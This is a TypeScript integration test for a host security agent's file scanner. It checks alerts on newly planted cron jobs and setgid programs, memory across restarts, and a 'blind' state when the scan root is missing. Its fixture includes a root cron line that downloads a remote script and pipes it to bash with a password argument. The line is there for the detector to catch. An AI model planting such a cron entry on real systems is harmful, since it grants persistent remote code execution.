/** Scans by themselves in a real `moat up`: what is planted in a root of the test's own raises alerts when it is new, and only then. */
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { expect, it, onTestFinished } from 'vitest';
import { askControl } from '../../src/agent/control.ts';
import type { AgentStatus } from '../../src/agent/agent.ts';
import { makeRoot, plant } from '../throwaway-root.ts';
import { onlyLog, removeFolder, startMoat, type RunningMoat } from './moat.ts';

const evil = '*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | bash -s -- --password=hunter22\n';
const config = (root: string): string => `${onlyLog('/nonexistent/auth.log')}scan: { root: ${JSON.stringify(root)}, delay_seconds: 0, every_hours: 0.0003, only: [cron, setuid] }\n`;

async function status(moat: RunningMoat): Promise<AgentStatus> { return (await askControl(join(moat.folder, 'data'), 'status')) as AgentStatus; }

/** Until a scan that began after now has ended. */
async function scanned(moat: RunningMoat): Promise<AgentStatus> {
  // One that runs already may have looked before the change.
  let began = false;
  let wasRunning = true;
  for (const until = Date.now() + 60_000; Date.now() < until; await sleep(100)) {
    const now = await status(moat);
    if (began && !now.scan!.running) return now;
    if (!wasRunning && now.scan!.running) began = true;
    wasRunning = now.scan!.running;
  }
  throw new Error(`no scan: ${moat.said()}`);
}

/** Asked seldom, and no further scan is waited for: each is a process that steps back behind all others. */
async function until(moat: RunningMoat, holds: (scan: NonNullable<AgentStatus['scan']>) => boolean): Promise<AgentStatus> {
  for (const end = Date.now() + 60_000; Date.now() < end; await sleep(100)) {
    const now = await status(moat);
    if (now.scan && holds(now.scan)) return now;
  }
  throw new Error(`no such scan: ${moat.said()}`);
}

it('tells what is new, forgets what is gone, and knows it all after a restart', async () => {
  const root = makeRoot({ '/etc/cron.d/zz': evil, '/opt/tool': { text: 'x', mode: 0o2755 } });
  let moat = await startMoat(config(root));
  onTestFinished(async () => { await moat.stop(); removeFolder(moat.folder); });

  const first = await moat.waitFor(({ rule_id }) => rule_id === 'check.cron', 'of the job', 60_000) as unknown as Record<string, unknown>;
  expect(first).toMatchObject({ level: 'high', path: '/etc/cron.d/zz', user: 'root', service: 'scan', attack: expect.arrayContaining(['T1053.003']) as string[] });
  expect(JSON.stringify(first['evidence'])).toContain('203.0.113.9');
  expect(JSON.stringify(first)).not.toContain('hunter22');
  const baseline = await until(moat, ({ signs }) => signs === 2);
  expect(baseline.scan).toMatchObject({ signs: 2, known: { high: 1, medium: 1 }, worst: [{ path: '/etc/cron.d/zz' }] });
  expect(baseline.parts['scan']!.state).toBe('live');

  // New: an alert, with its story. The known setgid program still raises none.
  plant(root, { '/usr/local/bin/helper': { text: 'x', mode: 0o2755 } });
  await moat.waitFor(({ rule_id, summary }) => rule_id === 'check.setuid' && summary.includes('/usr/local/bin/helper'), 'of the new program', 60_000);
  expect(moat.alerts.map(({ summary }) => summary).filter((text) => text.includes('/opt/tool runs'))).toEqual([]);

  // Gone, and back: a new alert.
  rmSync(join(root, 'etc/cron.d/zz'));
  await until(moat, ({ known }) => (known.high ?? 0) === 0);
  plant(root, { '/etc/cron.d/zz': evil });
  await moat.waitFor(({ rule_id, id }) => rule_id === 'check.cron' && id !== first['id'], 'of the job that returned', 60_000);
  const { folder } = moat;
  await until(moat, ({ known }) => known.high === 1 && known.medium === 2);
  await moat.stop();

  moat = await startMoat(config(root), { folder });
  const again = await scanned(moat);
  expect(moat.alerts).toEqual([]);
  expect(again.scan).toMatchObject({ known: { high: 1, medium: 2 } });
});

it('is blind, and says so, where it cannot scan', async () => {
  const moat = await startMoat(config('/nonexistent/root'));
  onTestFinished(async () => { await moat.stop(); removeFolder(moat.folder); });
  for (let i = 0; (await status(moat)).parts['scan']?.state !== 'blind'; i++) {
    if (i > 400) throw new Error(`not blind: ${moat.said()}`);
    await sleep(50);
  }
  expect((await status(moat)).parts['scan']!.detail!.en).toContain('/nonexistent/root');
});
